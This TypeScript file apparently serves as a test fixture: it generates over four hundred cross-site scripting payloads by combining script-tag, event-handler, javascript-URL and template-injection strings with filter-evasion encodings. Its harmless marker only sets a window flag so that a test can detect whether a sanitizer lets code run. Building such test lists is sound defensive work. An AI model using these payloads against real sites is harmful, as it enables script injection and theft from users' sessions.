const RUN = 'window.__ran=1';

/**
 * Attacks that have worked somewhere: tags, attributes, addresses, closing of surrounding elements, styles, templates.
 */
const WAYS: ((run: string) => string)[] = [
  (run) => `<script>${run}</script>`,
  (run) => `</script><script>${run}</script>`,
  (run) => `</title><script>${run}</script>`,
  (run) => `</textarea><script>${run}</script>`,
  (run) => `<!--><script>${run}</script>-->`,
  (run) => `]]><script>${run}</script>`,
  (run) => `<img src=x onerror=${run}>`,
  (run) => `"><img src=x onerror=${run}>`,
  (run) => `'><svg/onload=${run}>`,
  (run) => `<svg><script>${run}</script></svg>`,
  (run) => `<svg><animate onbegin=${run} attributeName=x>`,
  (run) => `<body onload=${run}>`,
  (run) => `<input autofocus onfocus=${run}>`,
  (run) => `<details open ontoggle=${run}>`,
  (run) => `<video><source onerror=${run}>`,
  (run) => `<math><mtext><img src=x onerror=${run}>`,
  (run) => `<iframe srcdoc="<script>parent.${run}</script>">`,
  (run) => `<iframe src="javascript:parent.${run}">`,
  (run) => `<a href="javascript:${run}" autofocus>x</a>`,
  (run) => `javascript:${run}`,
  (run) => `data:text/html,<script>${run}</script>`,
  (run) => `[x](javascript:${run})`,
  (run) => `<form><button formaction="javascript:${run}">`,
  (run) => `<object data="javascript:${run}">`,
  (run) => `<base href="javascript:${run}//">`,
  (run) => `<style>@import'javascript:${run}'</style>`,
  (run) => `<meta http-equiv=refresh content="0;javascript:${run}">`,
  (run) => `" autofocus onfocus=${run} x="`,
  (run) => `' onmouseover=${run} x='`,
  (run) => `\`-${run}-\``,
  (run) => `';${run}//`,
  (run) => `{{constructor.constructor('${run}')()}}`,
  (run) => `\${${run}}`,
];
/** Encodings that filters overlook. */
const DISGUISES: ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replace(/script/gi, 'ScRiPt'),
  (text) => text.replace(/script/gi, 'scr\tipt'),
  (text) => text.replace(/ on/g, '/on'),
  (text) => text.replace(/</g, '&lt;'),
  (text) => text.replace(/</g, '&#60;'),
  (text) => text.replace(/</g, '%3C'),
  (text) => text.replace(/</g, '\\u003c'),
  (text) => text.replace(/</g, '<<'),
  (text) => text.replace(/</g, '＜'),
  (text) => `&${text}`,
  (text) => `\u202e${text}`,
  (text) => `Ы${text}`,
  (text) => `"${text}`,
  (text) => `'>${text}`,
  (text) => `${text}<!--`,
];

/** More than four hundred texts; any that runs sets `window.__ran`. */
export const PAYLOADS: readonly string[] = [
  ...new Set(DISGUISES.flatMap((disguise) => WAYS.map((way) => disguise(way(RUN))))),
];
